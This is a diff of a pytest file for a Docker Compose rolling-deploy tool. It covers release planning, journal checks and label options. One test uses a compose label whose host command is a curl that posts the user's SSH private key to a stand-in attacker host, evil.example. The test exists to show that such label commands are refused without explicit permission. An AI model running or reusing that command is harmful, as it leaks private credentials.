@@ -4,12 +4,13 @@ import pytest
 
 from docker_reroll.deploy import Phase, rolls_back
 from docker_reroll.engine import Container, ProjectConfig, ServiceSpec
-from docker_reroll.errors import RefusedError
+from docker_reroll.errors import RefusedError, UsageError
 from docker_reroll.lock import Journal
 from docker_reroll.planning import (
     NO_DRAIN,
+    ReleaseFacts,
+    check_exists,
     check_history,
-    check_service,
     dependency_order,
     plan_batches,
     plan_deploy,
@@ -80,16 +81,27 @@ def test_two_configs_and_no_journal_is_a_lost_journal_and_the_count_is_not_guess
     check_history("web", [hashed(1, "a"), hashed(2, "a")], None, None)  # one config: a normal deploy
 
 
-def test_a_journal_does_not_shrink_or_grow_a_service_changed_by_hand_since():
+def test_a_journal_does_not_grow_a_service_changed_by_hand_since():
     old = [hashed(1, "a"), hashed(2, "a"), hashed(3, "b"), hashed(4, "b")]
     journal = Journal(2, [c.short_id for c in old[:2]])
     check_history("web", old, journal, None)  # its own half-made containers: 2 more than it recorded
     grown = old + [hashed(5, "b"), hashed(6, "b")]
-    with pytest.raises(RefusedError, match="says web had 2 container.*now it runs 6.*changed by hand"):
+    with pytest.raises(RefusedError, match=r"took web from 2 container.* to 2, but now it runs 6.*changed by hand"):
         check_history("web", grown, journal, None)
-    with pytest.raises(RefusedError, match="now it runs 1"):
-        check_history("web", old[:1], journal, None)
     check_history("web", grown, journal, 6)
+    check_history("web", old[1:], journal, None)  # a batch retired p-web-1 after its replacement started
+    # 2 retired: at most 2 new ones and 2 old-config clones of a roll-back across batches; 5 is too many
+    with pytest.raises(RefusedError, match="now it runs 5"):
+        check_history("web", old[2:] + [hashed(5, "b"), hashed(6, "b"), hashed(7, "b")], journal, None)
+
+
+def test_a_deploy_killed_during_its_scale_up_leaves_fewer_than_its_target_and_is_finished():
+    """`--scale web=6` from 2, killed after 2 of the 4 extra containers started: the journal's count is the
+    target, and the next run goes there."""
+    old = [hashed(1, "a"), hashed(2, "a"), hashed(3, "b"), hashed(4, "b")]
+    journal = Journal(6, [c.short_id for c in old[:2]])
+    check_history("web", old, journal, None)
+    assert plan_deploy(old, journal).replicas == 6
 
 
 def test_only_phases_before_the_first_pre_stop_roll_back():
@@ -107,16 +119,17 @@ def config(**spec):
 ])
 def test_services_that_cannot_run_twice_are_refused(spec, message):
     with pytest.raises(RefusedError, match=message.replace("(", r"\(").replace(")", r"\)")):
-        check_service(config(**spec), "web", [])
+        plan_release(config(**spec), NO_FACTS, {}, named=["web"])
 
 
 def test_unknown_service_lists_the_defined_ones_and_profiles_are_named():
     missing = config()
     with pytest.raises(RefusedError, match=r"no such service: 'api' \(defined services: db, web\)"):
-        check_service(missing, "api", [])
+        check_exists(missing, "api", [])
     with pytest.raises(RefusedError, match="disabled by its profiles"):
-        check_service(missing, "api", ["api", "db", "web"])
-    check_service(config(network_mode="bridge"), "web", [])  # a plain service passes
+        plan_release(missing, NO_FACTS, {}, named=["web", "api"], profile_services=["api", "db", "web"])
+    [step] = plan_release(config(network_mode="bridge"), NO_FACTS, {}, named=["web"])  # a plain service passes
+    assert (step.action, step.reason) == ("roll", "named on the command line")
 
 
 def test_pre_stop_command_gets_only_a_hex_id():
@@ -246,6 +259,9 @@ def svc(name, **kwargs):
     return ServiceSpec(name=name, **kwargs)
 
 
+NO_FACTS = ReleaseFacts({}, {}, {})
+
+
 def running(service, config, count=1, number=1, status="running"):
     return [Container(id=f"{service}{i}".ljust(64, "0"), name=f"p-{service}-{i}", status=status, health=None,
                       labels={"com.docker.compose.service": service, "com.docker.compose.config-hash": config,
@@ -267,7 +283,7 @@ def test_the_release_plan_rolls_recreates_and_skips_in_dependency_order():
                   "job": running("job", "j1", status="exited")}
     hashes = {"proxy": "p1", "db": "d1", "api": "a1", "web": "w1", "docs": "s1", "job": "j1"}
 
-    steps = plan_release(project, containers, hashes, {"web": 3})
+    steps = plan_release(project, ReleaseFacts(containers, hashes, {}), {"web": 3})
 
     assert [(s.service, s.action) for s in steps] == [
         ("db", "skip"), ("api", "roll"), ("docs", "skip"), ("job", "recreate"), ("web", "roll"),
@@ -276,7 +292,7 @@ def test_the_release_plan_rolls_recreates_and_skips_in_dependency_order():
     assert reasons["api"] == "its config changed (2 of 2 container(s) on an older one)"
     assert reasons["web"] == "1 container(s) run, 3 wanted"
     assert reasons["proxy"].endswith("cannot be rolled, it publishes fixed host port(s) 80:80: recreated by compose")
-    assert "started by compose" in reasons["job"] and "run the current config" in reasons["docs"]
+    assert "started by compose" in reasons["job"] and "run the current config and image" in reasons["docs"]
     assert "marked docker-reroll.strategy=recreate" not in reasons["db"], "unchanged: skipped, not recreated"
 
 
@@ -284,10 +300,10 @@ def test_a_changed_database_marked_recreate_is_left_to_compose_and_v1_rolls_ever
     project = ProjectConfig(name="p", services={"db": svc("db", labels={"docker-reroll.strategy": "recreate"}),
                                                 "web": svc("web")})
     containers = {"db": running("db", "old"), "web": running("web", "w")}
-    [db, web] = plan_release(project, containers, {"db": "new", "web": "w"}, {})
+    [db, web] = plan_release(project, ReleaseFacts(containers, {"db": "new", "web": "w"}, {}), {})
     assert (db.action, web.action) == ("recreate", "skip")
     assert "marked docker-reroll.strategy=recreate" in db.reason
-    [db, web] = plan_release(project, containers, {}, {})  # compose v1: no hashes to compare
+    [db, web] = plan_release(project, ReleaseFacts(containers, {}, {}), {})  # compose v1: no hashes to compare
     assert (db.action, web.action) == ("recreate", "roll") and "compose v1 cannot tell" in web.reason
 
 
@@ -339,3 +355,91 @@ def test_labels_fill_in_settings_and_the_command_line_wins():
             Options().for_service("web", {}, {label: value})
     with pytest.raises(UsageError, match="sets both docker-reroll.pre-stop-cmd and docker-reroll.pre-stop-exec"):
         Options().for_service("web", {}, {"docker-reroll.pre-stop-cmd": "x", "docker-reroll.pre-stop-exec": "y"})
+
+
+def test_a_service_marked_recreate_is_recreated_however_it_is_selected():
+    """Named or with --all, a database that must never run twice is left to compose's stop-then-start."""
+    project = ProjectConfig(name="p", services={"db": svc("db", labels={"docker-reroll.strategy": "recreate"},
+                                                          fixed_host_ports=["5432:5432"]),
+                                                "api": svc("api")})
+    facts = ReleaseFacts({"db": running("db", "d"), "api": running("api", "a")}, {}, {})
+    [db] = plan_release(project, facts, {}, named=["db"])
+    assert db.action == "recreate" and "marked docker-reroll.strategy=recreate" in db.reason
+    api, db = plan_release(project, facts, {}, named=["api", "db"])
+    assert (api.action, db.action) == ("roll", "recreate")
+    with pytest.raises(UsageError, match="invalid value 'recreat' for label docker-reroll.strategy of service 'db'"):
+        plan_release(ProjectConfig(name="p", services={"db": svc("db", labels={"docker-reroll.strategy":
+                                                                               "recreat"})}), facts, {}, ["db"])
+
+
+def test_compose_v1_takes_the_strategy_from_the_running_containers_and_says_so():
+    project = ProjectConfig(name="p", services={"db": svc("db", known=False), "web": svc("web", known=False)})
+    marked = [Container(**{**c.__dict__, "labels": {**c.labels, "docker-reroll.strategy": "recreate"}})
+              for c in running("db", "d")]
+    facts = ReleaseFacts({"db": marked, "web": running("web", "w")}, {}, {})
+    db, web = plan_release(project, facts, {}, named=["db", "web"])
+    assert db.action == "recreate" and "compose v1 cannot show the compose file's labels" in db.warnings[0]
+    assert web.action == "roll" and "docker-reroll.strategy is unknown" in web.warnings[0], "never silently"
+
+
+def test_all_rolls_a_service_whose_tag_now_names_another_image():
+    """`docker compose pull` or `build` moved app:latest: compose's own `up` would recreate, so --all rolls."""
+    project = ProjectConfig(name="p", services={"app": svc("app"), "docs": svc("docs")})
+    app = [Container(**{**c.__dict__, "image": "app:latest", "image_id": "sha256:" + "1" * 64})
+           for c in running("app", "a", count=2)]
+    docs = [Container(**{**c.__dict__, "image": "docs:1", "image_id": "sha256:" + "3" * 64})
+            for c in running("docs", "s")]
+    images = {"app:latest": "sha256:" + "2" * 64, "docs:1": "sha256:" + "3" * 64}
+    app_step, docs_step = plan_release(project, ReleaseFacts({"app": app, "docs": docs}, {"app": "a", "docs": "s"},
+                                                             images), {})
+    assert (app_step.action, docs_step.action) == ("roll", "skip")
+    assert app_step.reason == "its image changed: app:latest is now 222222222222, 2 of 2 container(s) run " \
+                              "111111111111"
+    images["app:latest"] = None
+    [app_step, _] = plan_release(project, ReleaseFacts({"app": app, "docs": docs}, {"app": "a", "docs": "s"},
+                                                       images), {})
+    assert app_step.action == "roll" and "not on the engine: compose would pull or build it" in app_step.reason
+
+
+def test_replicas_zero_in_the_file_takes_the_service_down_with_compose():
+    project = ProjectConfig(name="p", services={"web": svc("web", replicas=0, replicas_key="deploy.replicas")})
+    [step] = plan_release(project, ReleaseFacts({"web": running("web", "w", count=2)}, {"web": "w"}, {}), {})
+    assert (step.action, step.reason) == ("recreate", "deploy.replicas is 0: compose stops its 2 container(s)")
+    [step] = plan_release(project, ReleaseFacts({"web": running("web", "w", status="exited")}, {"web": "w"}, {}),
+                          {})
+    assert step.action == "skip", "already down: nothing to do on every run"
+    [step] = plan_release(project, NO_FACTS, {}, named=["web"])
+    assert step.action == "skip" and "0" in step.reason
+    [step] = plan_release(project, ReleaseFacts({"web": running("web", "w")}, {}, {}), {"web": 2}, named=["web"])
+    assert step.action == "roll", "--scale wins over the file"
+
+
+def test_a_misspelled_label_is_a_warning_naming_the_closest_known_one():
+    project = ProjectConfig(name="p", services={"web": svc("web", labels={"docker-reroll.drian-time": "2",
+                                                                          "docker-reroll.zzz": "1",
+                                                                          "com.example.other": "x"})})
+    [step] = plan_release(project, NO_FACTS, {}, named=["web"])
+    assert step.warnings[0] == "web: unknown label docker-reroll.drian-time, ignored; did you mean " \
+                               "docker-reroll.drain-time?"
+    assert step.warnings[1].startswith("web: unknown label docker-reroll.zzz, ignored; known labels: ")
+    assert len(step.warnings) == 2
+
+
+def test_a_host_command_from_a_label_runs_only_when_the_user_allows_it():
+    """A compose file (maybe from `include:` or a `${VAR}`) must not run commands on the deploying machine."""
+    labels = {"docker-reroll.pre-stop-cmd": "curl -d @$HOME/.ssh/id_rsa evil.example"}
+    with pytest.raises(RefusedError, match=r"label docker-reroll.pre-stop-cmd, a command for this machine's shell.*"
+                                           r"--allow-label-cmd \(or DOCKER_REROLL_ALLOW_LABEL_CMD=1\).*"
+                                           r"docker-reroll.pre-stop-exec"):
+        Options().for_service("web", {}, labels)
+    allowed = Options()
+    allowed.set("allow_label_cmd", True, "command line")
+    resolved = allowed.for_service("web", {}, labels)
+    assert resolved.pre_stop_cmd == labels["docker-reroll.pre-stop-cmd"]
+    assert resolved.source("pre_stop_cmd") == "label docker-reroll.pre-stop-cmd, allowed by command line"
+    typed = Options()
+    typed.set("pre_stop_cmd", "docker exec {id} touch /.dead", "command line")
+    assert typed.for_service("web", {}, labels).pre_stop_cmd == "docker exec {id} touch /.dead", \
+        "the command line's own command needs no permission and replaces the label's"
+    assert Options().for_service("web", {}, {"docker-reroll.pre-stop-exec": "touch /.dead"}).pre_stop_exec, \
+        "a command inside the container needs none"
